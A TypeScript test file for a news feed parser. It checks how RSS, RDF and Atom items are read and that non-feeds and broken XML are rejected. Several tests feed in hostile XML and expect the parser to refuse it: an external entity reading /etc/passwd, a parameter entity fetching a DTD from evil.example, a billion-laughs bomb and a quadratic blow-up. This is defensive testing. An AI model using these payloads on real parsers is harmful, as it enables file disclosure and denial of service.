import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type NewsFeedEntry, readEntries, UnreadableFeed } from './entries.ts';

const rss = (items: string, before = '') =>
  `<?xml version="1.0"?>${before}<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" ` +
  `xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>F</title><link>https://f.example/</link>${items}</channel></rss>`;
const atom = (entries: string) => `<feed xmlns="http://www.w3.org/2005/Atom"><title>F</title>${entries}</feed>`;

const entry = { guid: undefined, link: undefined, title: '', markup: '', date: undefined };

describe('an item', () => {
  test.each([
    [
      'of RSS',
      rss(
        '<item><title> A &amp; B </title><link> https://a.example/1 </link><guid ' +
          'isPermaLink="false">g1</guid><pubDate>Fri, 20 Nov 2026 10:00:00 ' +
          'GMT</pubDate><description><![CDATA[<p>x</p>]]></description></item>',
      ),
      {
        guid: 'g1',
        link: 'https://a.example/1',
        title: 'A & B',
        markup: '<p>x</p>',
        date: 'Fri, 20 Nov 2026 10:00:00 GMT',
      },
    ],
    [
      'of RSS that keeps its zeros',
      rss('<item><title>007</title><guid>0010</guid></item>'),
      { ...entry, guid: '0010', title: '007' },
    ],
    [
      'whose id is its address',
      rss('<item><title>t</title><guid>https://a.example/1</guid></item>'),
      { ...entry, guid: 'https://a.example/1', link: 'https://a.example/1', title: 't' },
    ],
    [
      'whose id is not an address',
      rss('<item><title>t</title><guid isPermaLink="false">https://a.example/1</guid></item>'),
      { ...entry, guid: 'https://a.example/1', title: 't' },
    ],
    [
      'whose id is a relative address',
      rss('<item><title>t</title><guid>warning-1</guid></item>'),
      { ...entry, guid: 'warning-1', title: 't' },
    ],
    [
      'with Dublin Core and full text',
      rss('<item><title>t</title><dc:date>2026-11-20</dc:date><content:encoded>c</content:encoded></item>'),
      { ...entry, title: 't', markup: 'c', date: '2026-11-20' },
    ],
    [
      'of RDF',
      '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" ' +
        'xmlns="http://purl.org/rss/1.0/"><channel rdf:about="x"><title>F</title></channel><item ' +
        'rdf:about="https://a.example/1"><title>t</title><link>https://a.example/2</link></item></rdf:RDF>',
      { ...entry, guid: 'https://a.example/1', link: 'https://a.example/2', title: 't' },
    ],
    [
      'of Atom',
      atom(
        '<entry><id>urn:1</id><title type="html">A &lt;i>x&lt;/i></title><link rel="self" ' +
          'href="/self"/><link rel="enclosure" href="/mp3"/><link type="application/pdf" href="/pdf"/><link ' +
          'type="text/html" ' +
          'href="/page"/><updated>2026-11-21T00:00:00Z</updated><published>2026-11-20T00:00:00Z</published><summary>s</summary><content>c</content></entry>',
      ),
      { guid: 'urn:1', link: '/page', title: 'A <i>x</i>', markup: 's', date: '2026-11-20T00:00:00Z' },
    ],
    [
      'of Atom that was only updated',
      atom(
        '<entry><id>urn:1</id><title>t</title><link ' +
          'href="https://a.example/1"/><updated>2026-11-21T00:00:00Z</updated></entry>',
      ),
      { ...entry, guid: 'urn:1', link: 'https://a.example/1', title: 't', date: '2026-11-21T00:00:00Z' },
    ],
  ])('%s', (_what, text, expected) => {
    expect(readEntries(text)).toEqual([expected]);
  });
});

test('reads a feed without items', () => {
  expect(readEntries(rss(''))).toEqual([]);
  expect(readEntries(atom(''))).toEqual([]);
});

test('accepts an old document type without entities', () => {
  const dtd = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss-0.91.dtd">';
  expect(readEntries(rss('<item><title>t</title></item>', dtd))).toHaveLength(1);
});

const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

test.each([
  [
    'an outside entity',
    rss('<item><title>&x;</title></item>', '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
  ],
  ['a parameter entity', rss('', '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>')],
  ['a billion laughs', rss('<item><title>&l9;</title></item>', `<!DOCTYPE r [<!ENTITY l0 "ha">${laughs}]>`)],
  [
    'a quadratic blow-up',
    rss(`<item><title>${'&a;'.repeat(9000)}</title></item>`, `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(9000)}">]>`),
  ],
])('refuses %s', (_what, text) => {
  expect(() => readEntries(text)).toThrow(new UnreadableFeed('declares entities of its own, which no feed needs'));
});

test('expands nothing for a document type behind a comment that looks like the root', () => {
  const hidden = rss('<item><title>&x;</title></item>', '<!-- <rss > --><!DOCTYPE r [<!ENTITY x "expanded">]>');
  expect(readEntries(hidden)).toMatchObject([{ title: '&x;' }]);
});

test.each([
  ['', 'is empty'],
  ['  \n', 'is empty'],
  ['<!doctype html><html><head><title>Log in</title></head></html>', 'is a web page, not a feed'],
  ['\n <HTML lang="en"><body><p>Down', 'is a web page, not a feed'],
  ['{"version":"https://jsonfeed.org/version/1.1","title":"x","items":[]}', 'is neither RSS nor Atom'],
  ['<opml version="2.0"><body/></opml>', 'is neither RSS nor Atom'],
  ['plain text', 'is neither RSS nor Atom'],
  ['<rss version="2.0"><channel><item><title>A</titl', 'is broken XML'],
  ['<rss version="2.0"><channel><item><title>A</b></item></channel></rss>', 'is broken XML'],
  [rss(`<item>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</item>`), 'is broken XML'],
])('%j %s', (text, reason) => {
  expect(() => readEntries(text)).toThrow(new UnreadableFeed(reason));
});

test.each([
  ['<!DOCTYPE rss>', true],
  ['<!DOCTYPE rss SYSTEM "a.dtd"><!-- [ -->', true],
  ['<!DOCTYPE rss [ ]>', false],
  ['<!DOCTYPE rss SYSTEM "a.dtd" <!DOCTYPE [', false],
  ['<!-- <!DOCTYPE > --><!doctype rss PUBLIC "b" "c"[', false],
  ['<!-- <!entity -->', false],
])('%s before the root is accepted: %s', (before, passed) => {
  const read = () => readEntries(rss('<item><title>t</title></item>', before));
  if (passed) expect(read()).toHaveLength(1);
  else expect(read).toThrow('declares entities of its own');
});

test('reads any document as text entries, or refuses it', () => {
  const names = [
    'rss',
    'channel',
    'item',
    'title',
    'link',
    'guid',
    'description',
    'pubDate',
    'feed',
    'entry',
    'rdf:RDF',
  ];
  const piece = fc.constantFrom(
    ...names.flatMap((name) => [`<${name}>`, `</${name}>`, `<${name} a="1">`, `<${name}/>`]),
    ...['<?xml version="1.0"?>', '<!DOCTYPE rss>', '<!DOCTYPE x [<!ENTITY a "b">]>', '<![CDATA[', ']]>', '<!--', '-->'],
    ...['<link href="/a" rel="alternate"/>', '<guid isPermaLink="false">', '7', 'true', 'null', '1e9', ' ', 'Text'],
    ...['&amp;', '&#0;', '&#xD800;', '&x;', '\uFEFF', '\0', '\uD800', '<'],
  );
  const pieces = fc.array(piece).map((all) => all.join(''));
  const feeds = [
    pieces.map((inside) => rss(`<item>${inside}</item>`)),
    pieces.map((inside) => atom(`<entry>${inside}</entry>`)),
  ];
  const read = (text: string): NewsFeedEntry[] => {
    try {
      return readEntries(text);
    } catch (error) {
      expect(error).toBeInstanceOf(UnreadableFeed);
      return [];
    }
  };
  fc.assert(
    fc.property(fc.oneof(fc.string({ unit: 'grapheme' }), pieces, ...feeds), (document) => {
      for (const { guid, link, title, markup, date } of read(document)) {
        for (const given of [guid, link, date]) if (given !== undefined) expect(given).toMatch(/^\S(.*\S)?$/s);
        expect([typeof title, typeof markup]).toEqual(['string', 'string']);
      }
    }),
    { seed: 20_261_121, numRuns: 500 },
  );
});
